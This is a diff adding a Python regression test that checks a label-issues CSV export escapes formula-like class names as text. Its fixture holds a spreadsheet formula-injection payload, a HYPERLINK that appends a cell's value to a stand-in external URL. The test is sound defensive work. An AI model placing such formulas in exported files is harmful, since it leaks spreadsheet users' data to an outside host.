@@ -1,5 +1,6 @@
 """trust: near-duplicate leakage found from real features; label issues as an exclusion list."""
 
+import csv
 import io
 import os
 
@@ -65,3 +66,15 @@ def test_label_issues_csv_is_an_exclusion_list(tmp_path):
         "gs://b/cats/1.jpg",
         "/data/dogs/a,b.jpg",
     }
+
+
+def test_label_issues_csv_writes_formula_like_class_names_as_text():
+    """Before: a class folder named `=HYPERLINK(...)` became a live formula in the file a
+    user opens in a spreadsheet."""
+    formula = '=HYPERLINK("http://x.example/?"&A2,"open")'
+    issues = [("gs://b/x/1.jpg", formula, "-1"), ("gs://b/y/2.jpg", "a=b", "@home")]
+    keys = ("uri", "given", "suggested")
+    found = {"issues": [{**dict(zip(keys, issue, strict=True)), "score": 0.5} for issue in issues]}
+    rows = list(csv.reader(io.StringIO(trust.label_issues_csv(found))))
+    assert rows[1][1:3] == ["'" + formula, "'-1"]
+    assert rows[2][1:3] == ["a=b", "'@home"]  # only a first character makes a formula
